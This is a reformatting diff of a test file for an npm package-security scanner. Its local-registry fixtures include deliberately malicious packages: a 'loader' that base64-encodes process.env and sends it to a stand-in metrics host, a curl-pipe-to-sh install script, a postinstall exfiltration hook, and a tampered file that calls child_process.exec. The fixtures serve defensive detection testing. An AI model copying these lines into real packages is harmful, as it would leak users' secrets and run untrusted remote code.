@@ -45,34 +45,56 @@ req.end();
 beforeAll(async () => {
   reg = await startVerdaccio();
   client = npmRegistry({ url: reg.url, timeoutMs: 10_000 });
-  const pub = async (name: string, version: string, rest: Parameters<LocalNpmRegistry['publish']>[0] extends infer T ? Omit<T & object, 'name' | 'version'> : never = {}): Promise<void> => {
+  const pub = async (
+    name: string,
+    version: string,
+    rest: Parameters<LocalNpmRegistry['publish']>[0] extends infer T ? Omit<T & object, 'name' | 'version'> : never = {},
+  ): Promise<void> => {
     const r = await reg.publish({ name, version, ...rest });
     published.set(`${name}@${version}`, r.integrity);
   };
   const lib = { 'index.js': "'use strict';\nmodule.exports = function pad(s, n) { return String(s).padStart(n); };\n" };
-  for (const v of ['1.0.0', '1.1.0', '2.0.0']) await pub('clean-lib', v, { manifest: { main: 'index.js', homepage: 'https://clean-lib.example.org' }, files: lib });
+  for (const v of ['1.0.0', '1.1.0', '2.0.0'])
+    await pub('clean-lib', v, { manifest: { main: 'index.js', homepage: 'https://clean-lib.example.org' }, files: lib });
   await pub('chain-a', '1.0.0', { manifest: { dependencies: { 'chain-b': '^1.0.0' } }, files: lib });
   await pub('chain-b', '1.0.0', { manifest: { dependencies: { 'chain-c': '~1.0.0', 'clean-lib': '^1.0.0' } }, files: lib });
   await pub('chain-c', '1.0.0', { manifest: { dependencies: { 'chain-d': '1.0.0' } }, files: lib });
   await pub('chain-d', '1.0.0', { files: lib });
   await pub('wide', '1.0.0', { manifest: { dependencies: { 'w-1': '1.0.0', 'w-2': '1.0.0', 'w-3': '1.0.0', 'w-4': '1.0.0' } }, files: lib });
   for (const n of ['w-1', 'w-2', 'w-3', 'w-4']) await pub(n, '1.0.0', { files: lib });
-  await pub('evil-pkg', '1.0.0', { manifest: { main: 'index.js', scripts: { postinstall: 'node scripts/setup.js' } }, files: { ...lib, 'scripts/setup.js': EXFIL_SETUP } });
+  await pub('evil-pkg', '1.0.0', {
+    manifest: { main: 'index.js', scripts: { postinstall: 'node scripts/setup.js' } },
+    files: { ...lib, 'scripts/setup.js': EXFIL_SETUP },
+  });
   await pub('curl-install', '1.0.0', { manifest: { scripts: { install: 'curl -fsSL https://get.example-tools.net/i.sh | sh' } }, files: lib });
   await pub('tampered', '1.0.0', { files: lib });
   await reg.tamper('tampered', '1.0.0', npmTarball({ name: 'tampered', version: '1.0.0' }, { 'index.js': 'require("child_process").exec("id")\n' }));
   await pub('bad-dep', '1.0.0', { manifest: { dependencies: { sneaky: 'github:someone/sneaky' } }, files: lib });
-  await pub('native-thing', '1.0.0', { manifest: { main: 'index.js', gypfile: true }, files: { 'index.js': "module.exports = require('./build/Release/addon.node');\n", 'binding.gyp': '{"targets":[{"target_name":"addon","sources":["addon.cc"]}]}', 'addon.cc': '#include <node.h>\n', 'build/Release/addon.node': fakeElf(8192) } });
+  await pub('native-thing', '1.0.0', {
+    manifest: { main: 'index.js', gypfile: true },
+    files: {
+      'index.js': "module.exports = require('./build/Release/addon.node');\n",
+      'binding.gyp': '{"targets":[{"target_name":"addon","sources":["addon.cc"]}]}',
+      'addon.cc': '#include <node.h>\n',
+      'build/Release/addon.node': fakeElf(8192),
+    },
+  });
   await pub('confused', '1.0.0', { manifest: { dependencies: { 'clean-lib': '1.0.0' } }, registryOverrides: { dependencies: {} }, files: lib });
   await pub('plat-parent', '1.0.0', { manifest: { optionalDependencies: { 'plat-win': '1.0.0' } }, files: lib });
   await pub('plat-win', '1.0.0', { manifest: { os: ['win32'] }, files: lib });
   await pub('loader', '1.0.0', {
     manifest: { main: 'index.js' },
-    files: { 'index.js': "const https = require('https');\nconst body = Buffer.from(JSON.stringify(process.env)).toString('base64');\nhttps.get('https://stats.example-metrics.io/p?d=' + body);\nmodule.exports = {};\n" },
+    files: {
+      'index.js':
+        "const https = require('https');\nconst body = Buffer.from(JSON.stringify(process.env)).toString('base64');\nhttps.get('https://stats.example-metrics.io/p?d=' + body);\nmodule.exports = {};\n",
+    },
   });
   await pub('api-client', '1.0.0', {
     manifest: { main: 'index.js', homepage: 'https://docs.weather-api.example.com' },
-    files: { 'index.js': "module.exports.forecast = async function forecast(city) {\n  return fetch('https://api.weather-api.example.com/v1/' + encodeURIComponent(city), { headers: { authorization: 'Bearer ' + process.env.WEATHER_API_KEY } });\n};\n" },
+    files: {
+      'index.js':
+        "module.exports.forecast = async function forecast(city) {\n  return fetch('https://api.weather-api.example.com/v1/' + encodeURIComponent(city), { headers: { authorization: 'Bearer ' + process.env.WEATHER_API_KEY } });\n};\n",
+    },
   });
   osvDir = await mkdtemp(join(tmpdir(), 'sigma-osv-'));
   await writeFile(
@@ -87,7 +109,11 @@ beforeAll(async () => {
         affected: [{ package: { ecosystem: 'npm', name: 'clean-lib' }, ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '1.1.0' }] }] }],
         references: [{ type: 'ADVISORY', url: 'https://osv.example/GHSA-xxxx-clean-0001' }],
       },
-      { id: 'MAL-2099-0002', summary: 'Malicious code in evil-pkg (npm)', affected: [{ package: { ecosystem: 'npm', name: 'evil-pkg' }, versions: ['1.0.0'] }] },
+      {
+        id: 'MAL-2099-0002',
+        summary: 'Malicious code in evil-pkg (npm)',
+        affected: [{ package: { ecosystem: 'npm', name: 'evil-pkg' }, versions: ['1.0.0'] }],
+      },
       { id: 'GHSA-withdrawn', withdrawn: '2026-01-02T00:00:00Z', affected: [{ package: { ecosystem: 'npm', name: 'clean-lib' }, versions: ['1.1.0'] }] },
     ]),
   );
@@ -170,7 +196,12 @@ describe('resolution against Verdaccio', () => {
         lockfileVersion: 3,
         packages: {
           '': { dependencies: { 'chain-b': '^1.0.0' } },
-          'node_modules/chain-b': { version: '1.0.0', resolved: `${reg.url}/chain-b/-/chain-b-1.0.0.tgz`, integrity: published.get('chain-b@1.0.0'), dependencies: { 'chain-c': '~1.0.0', 'clean-lib': '^1.0.0' } },
+          'node_modules/chain-b': {
+            version: '1.0.0',
+            resolved: `${reg.url}/chain-b/-/chain-b-1.0.0.tgz`,
+            integrity: published.get('chain-b@1.0.0'),
+            dependencies: { 'chain-c': '~1.0.0', 'clean-lib': '^1.0.0' },
+          },
           'node_modules/chain-c': { version: '1.0.0', integrity: published.get('chain-c@1.0.0'), dependencies: { 'chain-d': '1.0.0' } },
           'node_modules/chain-d': { version: '1.0.0', integrity: published.get('chain-d@1.0.0') },
           'node_modules/clean-lib': { version: '1.0.0', integrity },
@@ -221,7 +252,13 @@ describe('fetch and analysis', () => {
     const a = await analyse('evil-pkg', '1.0.0');
     expect(a.verdict).toBe('BLOCKED');
     expect(a.installScripts).toEqual([
-      expect.objectContaining({ hook: 'postinstall', command: 'node scripts/setup.js', file: 'package.json', entries: ['scripts/setup.js', 'package.json#postinstall.sh'], analysed: true }),
+      expect.objectContaining({
+        hook: 'postinstall',
+        command: 'node scripts/setup.js',
+        file: 'package.json',
+        entries: ['scripts/setup.js', 'package.json#postinstall.sh'],
+        analysed: true,
+      }),
     ]);
     const exfil = a.findings.filter((f) => f.ruleId === 'PACKAGE_INSTALL_EXFILTRATION');
     expect(exfil.map((f) => [f.severity, f.blocking, f.file, f.line])).toEqual([['CRITICAL', true, 'scripts/setup.js', 12]]);
@@ -271,7 +308,9 @@ describe('fetch and analysis', () => {
     const r = await resolve({ 'chain-d': '1.0.0' });
     const { bytes } = await fetchPackage(r.packages[0]!, client);
     expect(analyzePackage(r.packages[0]!, bytes)).toEqual(analyzePackage(r.packages[0]!, bytes));
-    expect(() => analyzePackage(r.packages[0]!, npmTarball({ name: 'chain-d', version: '1.0.0' }))).toThrowError(expect.objectContaining({ code: 'SIGMA_E_PACKAGE_DIGEST_MISMATCH' }));
+    expect(() => analyzePackage(r.packages[0]!, npmTarball({ name: 'chain-d', version: '1.0.0' }))).toThrowError(
+      expect.objectContaining({ code: 'SIGMA_E_PACKAGE_DIGEST_MISMATCH' }),
+    );
   });
 
   it('builds the certificate packages block', async () => {
